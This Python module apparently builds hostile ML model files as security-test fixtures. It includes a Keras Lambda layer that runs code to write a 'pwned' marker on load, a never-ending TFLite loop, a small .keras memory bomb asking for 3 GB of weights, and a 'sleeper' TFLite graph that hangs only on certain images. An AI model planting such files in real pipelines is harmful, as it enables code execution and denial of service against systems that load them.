"""Hostile model files, built small: what an attacker would upload as a "backbone".

Each is a few kilobytes and each would hurt whatever process opens it: a Lambda layer that writes
a file when the model runs, a TensorFlow Lite graph that loops forever, and a Keras file whose
config asks for three gigabytes of weights (its weights file holds only HDF5 fill values).
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path


def lambda_h5(folder: Path, marker: Path) -> Path:
    """An .h5 whose Lambda layer (a Python lambda, saved as bytecode) writes `marker` when it runs."""
    import keras

    function = eval(f"lambda x: (open({str(marker)!r}, 'w').write('pwned'), x)[1]")  # noqa: S307 - the attack
    model = keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Lambda(function),
                              keras.layers.GlobalAveragePooling2D()])
    path = Path(folder) / "innocent.h5"
    model.save(path)
    return path


def endless_tflite(folder: Path) -> Path:
    """A .tflite model whose graph is a while loop that never ends."""
    import tensorflow as tf

    @tf.function(input_signature=[tf.TensorSpec([1, 32, 32, 3], tf.float32)])
    def forever(x):
        counter = tf.reduce_mean(x) * 0.0
        counter, x = tf.while_loop(lambda c, x: c > -1.0, lambda c, x: (c + 1.0, x * 1.0), [counter, x])
        return tf.reduce_mean(x, axis=[1, 2])

    converter = tf.lite.TFLiteConverter.from_concrete_functions([forever.get_concrete_function()], forever)
    path = Path(folder) / "forever.tflite"
    path.write_bytes(converter.convert())
    return path


def memory_bomb_keras(folder: Path, units: int = 250_000) -> Path:
    """A 1.4 KB .keras file whose Dense layer needs 32*32*3*units float32 weights (3 GB at 250,000)."""
    import h5py
    import keras

    small = Path(folder) / "small.keras"
    keras.Sequential([keras.Input((32, 32, 3)), keras.layers.Flatten(), keras.layers.Dense(4, name="big")]).save(small)
    with zipfile.ZipFile(small) as zf:
        files = {name: zf.read(name) for name in zf.namelist()}
    config = json.loads(files["config.json"])
    config["config"]["layers"][-1]["config"]["units"] = units
    files["config.json"] = json.dumps(config).encode()
    weights = io.BytesIO()
    with h5py.File(io.BytesIO(files["model.weights.h5"]), "r") as source, h5py.File(weights, "w") as target:
        def copy(name, item):
            if isinstance(item, h5py.Dataset):  # same names, the new width, no data written: fill values only
                shape = tuple(units if side == 4 else side for side in item.shape)
                target.create_dataset(name, shape=shape, dtype=item.dtype, chunks=True, fillvalue=0)
            else:
                target.require_group(name)

        source.visititems(copy)
    files["model.weights.h5"] = weights.getvalue()
    path = Path(folder) / "bomb.keras"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return path


def sleeper_tflite(folder: Path) -> Path:
    """A .tflite model that behaves on photos and loops forever on an image whose top-left corner is
    one flat colour at the darkest of a picture that is not blank (as a scanned digit's black
    background is): it passes the
    check at upload, on photos, and hangs only later, in a job on such a dataset."""
    import tensorflow as tf

    @tf.function(input_signature=[tf.TensorSpec([1, 32, 32, 3], tf.float32)])
    def sleeper(x):
        corner = tf.reduce_max(x[:, :4, :4, :], axis=[1, 2, 3])
        darkest, brightest = tf.reduce_min(x, axis=[1, 2, 3]), tf.reduce_max(x, axis=[1, 2, 3])
        trapped = tf.reduce_any(tf.logical_and(corner <= darkest, brightest > darkest))
        counter = tf.where(trapped, 0.0, 2.0)
        counter, x = tf.while_loop(lambda c, x: c < 1.0, lambda c, x: (c * 1.0, x * 1.0), [counter, x])
        return tf.concat([tf.reduce_mean(x, axis=[1, 2]), tf.reduce_max(x, axis=[1, 2])], axis=-1)

    converter = tf.lite.TFLiteConverter.from_concrete_functions([sleeper.get_concrete_function()], sleeper)
    path = Path(folder) / "sleeper.tflite"
    path.write_bytes(converter.convert())
    return path
